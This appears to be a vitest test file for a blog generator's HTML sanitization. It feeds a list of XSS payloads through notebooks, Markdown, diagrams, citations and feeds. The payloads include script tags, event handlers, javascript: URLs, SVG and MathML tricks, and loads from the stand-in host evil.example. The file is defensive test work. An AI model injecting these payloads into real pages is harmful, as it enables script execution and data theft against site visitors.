import { XMLParser } from 'fast-xml-parser';
import { expect, test } from 'vitest';
import { wholeBlog } from '../../../src/feeds/documents.ts';
import { aliasFile } from '../../../src/blog/alias-page.ts';
import { refusals, type Part } from '../../../src/core/html/allowed.ts';
import { readHtml, type HtmlReader } from '../../../src/core/html/reader.ts';
import { readXml } from '../../../src/core/html/xml.ts';
import { atomFeed } from '../../../src/feeds/atom.ts';
import { createFeed } from '../../../src/feeds/feed.ts';
import { jsonFeed } from '../../../src/feeds/json.ts';
import { portable } from '../../../src/feeds/portable.ts';
import { rssFeed } from '../../../src/feeds/rss.ts';
import { readNotebook } from '../../support/notebooks.ts';
import { site } from '../../../src/site.ts';
import { render } from '../../support/documents.ts';
import { makePost } from '../../support/posts.ts';

/** Texts that run, load from elsewhere or leave their place where something between them and a browser is careless. */
const payloads = [
  '<script>alert(1)</script>',
  '</title></style></textarea></script><script src=//evil.example></script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '--><img src=//evil.example/p onload=alert(1)><!--',
  ']]><svg onload=alert(1)>',
  '<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style>@import "//evil.example"</style><rect fill="u\\72l(//evil.example)"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="&#x6A;avascript:alert(1)">x</a><a href="jav\tascript:alert(1)">y</a>',
  '[x](javascript:alert(1)) ![y](https://evil.example/p.png) <javascript:alert(1)>',
  '<form action=//evil.example><input formaction=javascript:alert(1)></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<p style="background:url(//evil.example)"><table background=//evil.example><td>x',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>&lt;img src=x onerror=alert(1)&gt;',
];

/** What of a text would act where it is read. */
function acting(part: Part): { reader: HtmlReader; found: string[] } {
  const found: string[] = [];
  const elsewhere = /^\s*(?:[a-z]+:|\/\/)(?!\/*me\.example)/i;
  const open: HtmlReader['open'] = (tag) => {
    for (const { kind, attribute = '' } of refusals(tag, part)) {
      if (part !== 'drawing' || kind !== 'style') found.push(`<${tag.name} ${attribute}> ${kind}`);
    }
    for (const [name, value] of Object.entries(tag.attributes)) {
      const loads = /^(?:src|srcset|poster|background)$/.test(name) || (/href$/.test(name) && tag.namespace === 'svg');
      if (loads && elsewhere.test(value) && tag.name !== 'a') found.push(`<${tag.name} ${name}="${value}">`);
    }
  };
  return { reader: { open, close: () => undefined, text: () => undefined }, found };
}

function inHtml(html: string, part: Part = 'text'): string[] {
  const { reader, found } = acting(part);
  readHtml(html, reader, true);
  return found;
}

function inDrawing(svg: string): string[] {
  const { reader, found } = acting('drawing');
  return [...readXml(svg, reader).errors, ...found];
}

/** What acts of Markdown that is published, and of the feed and the drawings in any case. */
async function ofMarkdown(markdown: string, texts: Record<string, string> = {}): Promise<string[]> {
  const files = ['/a.png', 'a-post/output-1-1.png', 'a-post/output-1-1.svg', 'a-post/attachment-1-1.png'];
  const { html, state } = await render(markdown, { files, texts });
  const feed = inHtml(portable(html, 'https://me.example/a/'));
  const drawings = [...state.drawings.values()].flatMap(inDrawing);
  // What is told is not published; an image of another site is no more than told.
  const isTold = state.errors.length > 0;
  const inFeed = feed.filter((each) => !isTold || !each.startsWith('<img src='));
  return [...(isTold ? [] : inHtml(html)), ...inFeed, ...drawings];
}

const line = (text: string): string => text.replace(/\s+/g, ' ');
const quoted = (text: string): string => JSON.stringify(line(text));
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const drawn = { output_type: 'display_data', metadata: {}, data: { 'image/png': png } };
const output = (data: object) => ({ outputs: [{ output_type: 'display_data', metadata: {}, data }] });
const svg = (text: string) => `<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`;
const fence = (language: string, ...lines: string[]) => ['```' + language, ...lines, '```'].join('\n');

/** Cells of a notebook that hold a payload. */
const cells: Record<string, (payload: string) => object> = {
  'an output of HTML': (payload) => output({ 'text/html': payload }),
  'a table of HTML': (payload) => output({ 'text/html': `<table><tr><td>${payload}</td></tr></table>` }),
  'an output of SVG': (payload) => output({ 'image/svg+xml': svg(payload) }),
  'an output of Markdown': (payload) => output({ 'text/markdown': payload }),
  'an output of LaTeX': (payload) => output({ 'text/latex': `$\\text{${payload}}$` }),
  'an output of LaTeX without a formula': (payload) => output({ 'text/latex': payload }),
  'a link of LaTeX': (payload) => output({ 'text/latex': `$\\href{${payload}}{x}$` }),
  'an output of text': (payload) => output({ 'text/plain': payload }),
  'an output of JavaScript': (payload) => output({ 'application/javascript': payload }),
  'a message': (payload) => ({ outputs: [{ output_type: 'stream', name: 'stderr', text: payload }] }),
  'a link of a terminal': (payload) => {
    const text = `\u001b]8;;${payload}\u0007x\u001b]8;;\u0007\u001b[31m${payload}`;
    return { outputs: [{ output_type: 'stream', name: 'stdout', text }] };
  },
  'an error': (payload) => {
    return { outputs: [{ output_type: 'error', ename: payload, evalue: payload, traceback: [payload] }] };
  },
  'a caption': (payload) => {
    return { source: `#| fig-cap: ${quoted(payload)}\n#| fig-alt: ${quoted(payload)}\nx`, outputs: [drawn] };
  },
  'a label': (payload) => ({ source: `#| label: ${quoted(`fig-${payload}`)}\n#| fig-alt: a\nx`, outputs: [drawn] }),
  code: (payload) => ({ source: payload }),
  'a Markdown cell': (payload) => ({ cell_type: 'markdown', source: payload }),
  'a raw cell': (payload) => ({ cell_type: 'raw', source: payload }),
  'an attachment': (payload) => {
    const attachments = { [line(payload)]: { 'image/png': png }, 'b.svg': { 'image/svg+xml': btoa(svg(payload)) } };
    const source = `![${line(payload)}](attachment:${line(payload)}) ![x](attachment:b.svg)`;
    return { cell_type: 'markdown', source, attachments };
  },
};

test.each(Object.keys(cells))('in a notebook, nothing acts in %s', async (name) => {
  for (const payload of payloads) {
    const cell = { cell_type: 'code', metadata: {}, source: 'x', outputs: [], ...cells[name]!(payload) };
    const metadata = { kernelspec: { language: payload } };
    const text = JSON.stringify({ nbformat: 4, metadata, cells: [cell] });
    const { body, files, errors } = readNotebook(text, { folder: './a-post', download: '/a.ipynb' });
    const svgs = [...files].filter(([file]) => file.endsWith('.svg'));
    const drawings = svgs.map(([, bytes]) => new TextDecoder().decode(bytes));
    const found = [...drawings.flatMap(inDrawing), ...(errors.length > 0 ? [] : await ofMarkdown(body))];
    expect(found, payload).toEqual([]);
  }
});

/** Markdown that holds a payload. */
const places: Record<string, (payload: string) => string> = {
  'a label of a diagram': (payload) => {
    return fence('mermaid', 'flowchart LR', `  A["${line(payload).replaceAll('"', "'")}"] --> B`);
  },
  'a message in a diagram': (payload) => fence('mermaid', 'sequenceDiagram', `  A->>B: ${line(payload)}`),
  'the title of a diagram': (payload) => {
    return fence('mermaid', '---', `title: ${quoted(payload)}`, '---', 'flowchart LR', '  A --> B');
  },
  'a link of a diagram': (payload) => fence('mermaid', 'flowchart LR', '  A --> B', `  click A ${quoted(payload)}`),
  'a style of a diagram': (payload) => fence('mermaid', 'flowchart LR', '  A --> B', `  style A fill:${line(payload)}`),
  'the title of a chart': (payload) => fence(`chart caption=${quoted(payload)}`, 'x,y', '1,2', '2,3'),
  'the columns of a chart': (payload) => fence('chart', `"x","${line(payload).replaceAll('"', '""')}"`, '1,2', '2,3'),
  'the YAML of a chart': (payload) => {
    const row = `  ${payload.replace(/[\s,"]/g, '')},2`;
    return fence('chart', 'type: bar', `title: ${quoted(payload)}`, 'data: |', '  x,y', row);
  },
  'the title of code': (payload) => fence(`js title=${quoted(payload)}`, 'x'),
  'the language of code': (payload) => fence(line(payload), 'x'),
  'the title of a callout': (payload) => `> [!note] ${line(payload)}\n> text`,
  'the title of a directive': (payload) => `:::note[${line(payload)}]{.x}\ntext\n:::`,
  'a caption and an alt text': (payload) => {
    return `![${line(payload).replace(/[[\]]/g, '\\$&')}](/a.png ${quoted(payload)}){#fig:a}`;
  },
  'the title of a link': (payload) => `[x](/a/ ${quoted(payload)})`,
  'a table': (payload) => `| ${line(payload)} |\n|---|\n| ${line(payload)} |\n\n: ${line(payload)} {#tbl:a}`,
  'a heading': (payload) => `## ${line(payload)} {#${line(payload)}}`,
  'an abbreviation': (payload) => `A\n\n*[A]: ${line(payload)}`,
  'a footnote': (payload) => `a[^1]\n\n[^1]: ${payload}`,
  'a formula': (payload) => `$\\text{${line(payload)}}$ $\\href{${line(payload)}}{x} \\class{${line(payload)}}{y}$`,
  'a card': (payload) => `[${line(payload)}](https://youtu.be/aqz-KE "${line(payload).replaceAll('"', '\\"')}")`,
};

test.each(Object.keys(places))('in Markdown, nothing acts in %s', async (name) => {
  for (const payload of payloads) expect(await ofMarkdown(places[name]!(payload)), payload).toEqual([]);
});

test.each(payloads)('in the fields of a source, %j does nothing', async (payload) => {
  const fields = ['author', 'title', 'journal', 'note', 'abstract', 'publisher', 'url', 'doi', 'year', 'pages'];
  const value = line(payload).replace(/[{}]/g, '');
  const bib = `@article{a,\n${fields.map((field) => `  ${field} = {${value}},`).join('\n')}\n}\n`;
  expect(await ofMarkdown('As [@a, p. 3] says.', { '../references.bib': bib })).toEqual([]);
});

test.each(payloads)('in the front matter, %j does nothing', async (payload) => {
  const text = line(payload);
  const post = makePost('a', { title: text, description: text, tags: [`x ${text}`], series: text });
  const document = { topic: wholeBlog(), posts: [post], previous: 0 };
  const feed = await createFeed(document, async () => ({ body: '<p>x</p>', enclosures: [], image: undefined }));
  const about = { ...site, title: text, description: text, author: { name: text } };
  const rss = await rssFeed(feed, about);
  for (const xml of [rss, atomFeed(feed, about)]) expect(inDrawing(xml)).toEqual([]);
  // The description of an item of RSS is HTML.
  const { item } = (new XMLParser().parse(rss) as { rss: { channel: { item: { description: string } } } }).rss.channel;
  expect(item.description).not.toBe('');
  expect(inHtml(item.description)).toEqual([]);
  expect(() => JSON.parse(jsonFeed(feed, about)) as unknown).not.toThrow();
  expect(inHtml(aliasFile({ title: text, url: '/a/' }, 'old/index.html'), 'page')).toEqual([]);
  // The page's own way to lead on is none of the payload's.
  const moved = inDrawing(aliasFile({ title: text, url: '/a/' }, 'feed.xml'));
  expect(moved.filter((each) => !each.includes('http-equiv'))).toEqual([]);
});

test('what looks for them finds them', () => {
  const missed = payloads.filter((payload) => inHtml(`<div>${payload}</div><p title='${payload}'></p>`).length === 0);
  expect(missed).toEqual([]);
});
